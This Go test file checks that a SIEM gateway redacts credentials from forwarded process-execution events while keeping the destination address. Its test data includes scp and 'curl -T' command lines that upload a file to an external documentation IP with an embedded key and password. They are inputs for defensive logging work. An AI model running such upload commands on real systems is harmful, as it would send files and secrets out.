//go:build linux

package siem

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/pdata/plog/plogotlp"

	"github.com/copywatch/copywatch/internal/schema"
)

// What agents let through, and what other sensors send, is masked by the gateway.
func TestTiersRedaction(t *testing.T) {
	const token, password = "AKIAIOSFODNN7EXAMPLE", "hunter2secret"
	a := newAuthority(t)
	siem := newTierPeer(t, a)
	gateway := newTierGateway(t, a, siem)
	gateway.configs = append(gateway.configs, "testdata/replay.yaml")
	gateway.start(t)
	for scope, arguments := range map[string][]string{
		"github.com/copywatch/copywatch/receiver/ebpfexecreceiver": {"scp", "-o", "User=" + token, "file", "ana@203.0.113.7:/in"},
		"another-sensor": {"curl", "-T", "file", "-u", "ana:" + password, "https://203.0.113.7/in"},
	} {
		logs := plog.NewLogs()
		to := logs.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty()
		to.Scope().SetName(scope)
		record := to.LogRecords().AppendEmpty()
		record.SetEventName(schema.EventExec)
		line := strings.Join(arguments, " ")
		record.Body().SetStr(line)
		record.Attributes().PutStr(schema.ExecutableName, arguments[0])
		record.Attributes().PutStr(schema.CommandLine, line)
		record.Attributes().PutStr(schema.EntityID, arguments[0])
		list := record.Attributes().PutEmptySlice(schema.CommandArgs)
		for _, argument := range arguments {
			list.AppendEmpty().SetStr(argument)
		}
		body, err := plogotlp.NewExportRequestFromLogs(logs).MarshalProto()
		require.NoError(t, err)
		r := &replay{address: gateway.replay}
		require.NoError(t, r.post(context.Background(), body))
	}
	siem.requireAll(t, []string{"scp", "curl"}, 20*time.Second)
	for _, record := range siem.kept() {
		content := plog.NewLogs()
		record.CopyTo(content.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords().AppendEmpty())
		text, err := new(plog.JSONMarshaler).MarshalLogs(content)
		require.NoError(t, err)
		require.False(t, bytes.Contains(text, []byte(token)) || bytes.Contains(text, []byte(password)), "%s", text)
		require.Contains(t, attribute(record, schema.CommandLine), "203.0.113.7")
		_, whole := record.Attributes().Get(schema.CommandArgs)
		require.Equal(t, attribute(record, schema.Tool) == "curl", whole, "the list of arguments")
	}
}
